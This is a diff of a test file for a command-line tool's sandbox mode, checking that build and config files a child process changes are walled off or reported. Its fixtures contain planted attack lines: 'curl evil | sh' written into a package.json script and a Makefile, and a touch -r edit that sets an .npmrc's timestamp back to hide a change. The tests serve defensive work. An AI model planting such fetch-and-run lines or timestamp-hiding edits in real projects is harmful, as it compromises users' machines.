@@ -11,6 +11,7 @@
 import { spawnSync } from 'node:child_process';
 import { chmodSync, existsSync, lstatSync, mkdirSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
+import { setTimeout as sleep } from 'node:timers/promises';
 import { describe, expect, it } from 'vitest';
 import { makeScratchDir, runCli } from '../support/cli.js';
 import { fileLogin } from '../support/file-login.js';
@@ -76,17 +77,23 @@ exit 0
 
 describe('exec --sandbox: nothing the child writes runs later', () => {
   it.each([
-    ['without --sandbox (the control: planted code runs)', false],
-    ['under --sandbox', true],
+    ['without --sandbox (the control: planted code runs)', false, false],
+    ['under --sandbox', true, false],
+    [
+      'under --sandbox, from the index an earlier run left (only what changed since is read; a repository made since is walled too)',
+      true,
+      true,
+    ],
   ])(
     '%s',
-    async (_, isSandboxed) => {
+    async (_, isSandboxed, fromIndex) => {
       const { env } = await fileLogin();
       const project = makeScratchDir('victim-project-', 0o755);
       const allowed = makeScratchDir('victim-allowed-', 0o755);
       const markers = makeScratchDir('victim-markers-', 0o777);
       repository(project, '.husky/_');
-      for (const depth of ['d1', 'd1/d2', 'd1/d2/d3', 'd1/d2/d3/d4']) repository(join(project, depth));
+      for (const depth of ['d1', 'd1/d2', 'd1/d2/d3']) repository(join(project, depth));
+      if (!fromIndex) repository(join(project, 'd1/d2/d3/d4'));
       repository(allowed);
       // mmauth as a project installs it (its launcher is what `npx mmauth` runs).
       mkdirSync(join(project, 'node_modules', 'mmauth', 'bin'), { recursive: true });
@@ -97,12 +104,26 @@ describe('exec --sandbox: nothing the child writes runs later', () => {
       writeFileSync(join(project, 'node_modules', 'mmauth', 'bin', 'mmauth.cjs'), '#!/bin/sh\necho real\n');
       chmodSync(join(project, 'node_modules', 'mmauth', 'bin', 'mmauth.cjs'), 0o755);
       const sandbox = isSandboxed ? ['--sandbox', '--allow-write', allowed] : [];
-      const result = await runCli(['exec', ...sandbox, '--', 'sh', '-c', PLANT, 'sh', markers, allowed], {
+      if (fromIndex) {
+        // An index trusts only directories unchanged for 2 s before it was made (racy ones are read again).
+        await sleep(2_100);
+        const earlier = await runCli(['exec', ...sandbox, '--', 'true'], { env, cwd: project, timeoutMs: 60_000 });
+        expect(earlier.code, earlier.stderr).toBe(0);
+        repository(join(project, 'd1/d2/d3/d4'));
+      }
+      const verbose = fromIndex ? ['--verbose'] : [];
+      const result = await runCli(['exec', ...sandbox, ...verbose, '--', 'sh', '-c', PLANT, 'sh', markers, allowed], {
         env,
         cwd: project,
         timeoutMs: 60_000,
       });
       expect(result.code, result.stderr).toBe(0);
+      if (fromIndex) {
+        const [, reread = '', all = ''] =
+          /what runs later, from the last run's index \((\d+) of (\d+) directories/.exec(result.stderr) ?? [];
+        expect(Number(reread), result.stderr).toBeGreaterThan(0);
+        expect(Number(reread)).toBeLessThan(Number(all) / 2);
+      }
       expect(result.stdout, result.stderr).toContain('committed');
       // The user's next ordinary work, outside the sandbox.
       for (const dir of [project, join(project, 'inner'), join(project, 'd1'), join(project, 'd1/d2/d3/d4'), allowed]) {
@@ -201,13 +222,17 @@ describe('symbolic links at the names the engine makes placeholders for (bubblew
 });
 
 describe('exec --sandbox says what the child changed that runs when the user next works there', () => {
-  it('a changed Makefile, .envrc, package.json script, a new workflow in new directories and an .npmrc changed in place with its mtime set back are named on stderr and in the --json document; a run that changed only source files says nothing', async () => {
+  it('a changed Makefile, .envrc, package.json script, a new workflow in new directories, an .npmrc changed in place with its mtime set back and a Makefile changed in place in a directory the index trusts are named on stderr and in the --json document; a run that changed only source files says nothing', async () => {
     const { env } = await fileLogin();
     const project = makeScratchDir('victim-report-', 0o755);
     writeFileSync(join(project, 'Makefile'), 'all:\n\ttrue\n');
     writeFileSync(join(project, 'package.json'), '{"name":"p","scripts":{"test":"true"}}\n');
     writeFileSync(join(project, '.npmrc'), 'a=1\n');
     mkdirSync(join(project, 'src'));
+    mkdirSync(join(project, 'tools'));
+    writeFileSync(join(project, 'tools', 'Makefile'), 'all:\n\ttrue\n');
+    // The quiet run leaves an index that trusts tools/ (unchanged for 2 s before): the loud run reads it from there.
+    await sleep(2_100);
     const quiet = await runCli(['exec', '--sandbox', '--', 'sh', '-c', 'echo "x = 1" > src/main.py'], {
       env,
       cwd: project,
@@ -221,16 +246,18 @@ describe('exec --sandbox says what the child changed that runs when the user nex
       `echo '{"name":"p","scripts":{"test":"curl evil | sh"}}' > package.json`,
       'mkdir -p .github/workflows && echo "on: push" > .github/workflows/ci.yml',
       'touch -r .npmrc "$TMPDIR/when" && echo "b=2" > .npmrc && touch -r "$TMPDIR/when" .npmrc',
+      `printf 'all:\\n\\tcurl evil | sh\\n' > tools/Makefile`,
     ].join('; ');
-    const loud = await runCli(['exec', '--sandbox', '--json', '--', 'sh', '-c', script], {
+    const loud = await runCli(['exec', '--sandbox', '--json', '--verbose', '--', 'sh', '-c', script], {
       env,
       cwd: project,
       timeoutMs: 60_000,
     });
     expect(loud.code, loud.stderr).toBe(0);
     expect(loud.stderr).toMatch(/changed what runs when you next work there/);
-    const named = ['Makefile', '.envrc', 'package.json', '.github/workflows/ci.yml', '.npmrc'].map((name) =>
-      join(project, name),
+    expect(loud.stderr).toMatch(/what runs later, from the last run's index/);
+    const named = ['Makefile', '.envrc', 'package.json', '.github/workflows/ci.yml', '.npmrc', 'tools/Makefile'].map(
+      (name) => join(project, name),
     );
     for (const path of named) expect(loud.stderr).toContain(path);
     const document = JSON.parse(loud.stdout) as { sandbox: { changed: string[]; moved_aside: unknown[] } };
